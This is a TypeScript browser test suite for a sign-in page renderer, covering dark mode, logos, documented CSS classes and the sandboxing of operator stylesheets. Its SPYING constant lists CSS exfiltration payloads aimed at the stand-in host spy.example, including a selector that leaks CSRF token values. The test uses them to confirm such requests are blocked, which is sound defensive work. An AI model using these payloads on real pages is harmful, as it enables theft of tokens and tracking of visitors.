import { readFileSync } from 'node:fs'
import { type Browser, type BrowserContext, chromium } from 'playwright-core'
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest'
import { CHROMIUM_FLAGS, chromiumPath } from '../../../e2e/chromium.ts'
import { customStylesheet, type Frame, locales, render } from './index.ts'
import { sampleFrame, sampleViews } from './samples.ts'
import { Visit } from './testing.ts'

let browser: Browser
let context: BrowserContext

beforeAll(async () => {
  browser = await chromium.launch({ executablePath: chromiumPath(), args: CHROMIUM_FLAGS })
})
afterEach(async () => {
  await context?.close()
})
afterAll(async () => {
  await browser?.close()
})

async function open(colorScheme: 'light' | 'dark', javaScriptEnabled = true) {
  context = await browser.newContext({ colorScheme, javaScriptEnabled })
  return Visit.open(context, { withScript: javaScriptEnabled })
}

/** What a script in the page computes; as text, for the page has other types than this program. */
const styleOf = (visit: Visit, selector: string, property: string) =>
  visit.page.evaluate(`getComputedStyle(document.querySelector('${selector}')).${property}`)

const colorsOf = async (visit: Visit) => ({
  card: await styleOf(visit, '.card', 'backgroundColor'),
  button: await styleOf(visit, '.button', 'backgroundColor'),
  scheme: await styleOf(visit, 'html', 'colorScheme'),
})

const LIGHT = { card: 'rgb(255, 255, 255)', button: 'rgb(11, 122, 94)', scheme: 'light' }

it.each([
  ['with the script', true],
  ['without it', false],
])('pages are dark where the operator lets them and the visitor likes it, %s', async (_, withScript) => {
  const { darkColor, ...onlyLight } = sampleFrame
  expect(darkColor).toBe('#1fa383')
  const view = sampleViews['identifier-phone']!
  const likesDark = await open('dark', withScript)
  await likesDark.show(view)
  expect(await colorsOf(likesDark)).toMatchObject({ card: 'rgb(27, 30, 36)', scheme: 'dark' })
  expect((await colorsOf(likesDark)).button).not.toBe(LIGHT.button)
  await likesDark.show(view, onlyLight)
  expect(await colorsOf(likesDark)).toEqual(LIGHT)
  expect(likesDark.complaints).toEqual([])
  await context.close()
  const likesLight = await open('light', withScript)
  await likesLight.show(view)
  expect(await colorsOf(likesLight)).toEqual(LIGHT)
})

it('on dark pages the logo and the icon for them are asked for', async () => {
  const visit = await open('dark')
  const logos = { logoUrl: 'https://cdn.example/light.svg', darkLogoUrl: 'https://cdn.example/a, b/dark.svg' }
  await visit.show(sampleViews['identifier-phone']!, { ...sampleFrame, ...logos })
  await expect.poll(() => visit.gone).toContain('/a,%20b/dark.svg')
  expect(visit.gone).not.toContain('/light.svg')
})

it('what the document lets such a stylesheet hold on to stands on the pages', () => {
  const document = readFileSync(new URL('../../../docs/logto-compatibility.md', import.meta.url), 'utf8')
  const row = document.split('\n').find(each => each.startsWith('| `customCss`'))!
  const named = [...row.matchAll(/`\.([a-z-]+)(<name>)?`/g)].map(([, name, more]) =>
    more ? `${name}identifier` : name!,
  )
  expect(named.length).toBeGreaterThan(10)
  const frame = { ...sampleFrame, logoUrl: 'https://cdn.example/logo.svg' }
  const pages = Object.values(sampleViews).map(view => render(view, frame, locales.en!))
  const classes = new Set(
    pages.flatMap(page => [...page.matchAll(/class="([^"]+)"/g)].flatMap(([, all]) => all!.split(' '))),
  )
  expect(named.filter(name => !classes.has(name))).toEqual([])
})

/** Everything by which a stylesheet asks for something, some of it told apart by what stands on the page. */
const SPYING = `
@import "https://spy.example/import.css";
@import url(https://spy.example/import2.css) layer(x);
@font-face { font-family: spy; src: url(https://spy.example/font.woff2) }
html { font-family: spy; cursor: url(https://spy.example/cursor.png), auto }
input[name=csrf][value^=csrf] ~ .pair { background: url(https://spy.example/csrf) }
h1 { background-image: \\75rl(https://spy.example/escaped) }
h1::before { content: url("//spy.example/content") }
.lead { list-style: url(https://spy.example/list) inside; display: list-item }
.card { border-image: url(http://spy.example/border) 30; mask: url(https://spy.example/mask.svg#m) }
.button { background-image: image-set("https://spy.example/set" 1x); filter: url(https://spy.example/f.svg#f) }
.brand { background: url(https://cdn.example/other.svg) }
footer { background: url(https://cdn.example/logo.svg) }
h1 { text-transform: uppercase; outline: 3px solid rgb(1, 2, 3) }
`

it('a stylesheet of the operator’s changes the look, and asks nobody else for anything', async () => {
  const visit = await open('light')
  const { path, body } = customStylesheet(SPYING)!
  visit.sheets[path] = body
  const frame: Frame = { ...sampleFrame, stylesheet: path, logoUrl: 'https://cdn.example/logo.svg' }
  await visit.show(sampleViews['identifier-phone']!, frame)
  await visit.page.waitForLoadState('networkidle')
  expect(await styleOf(visit, 'h1', 'textTransform')).toBe('uppercase')
  expect(await styleOf(visit, 'h1', 'outlineColor')).toBe('rgb(1, 2, 3)')
  // The logo, which is on the page itself, is the one foreign thing.
  expect([...new Set(visit.gone)]).toEqual(['/logo.svg'])
  expect(visit.complaints.filter(each => each.includes('spy.example')).length).toBeGreaterThan(8)
})
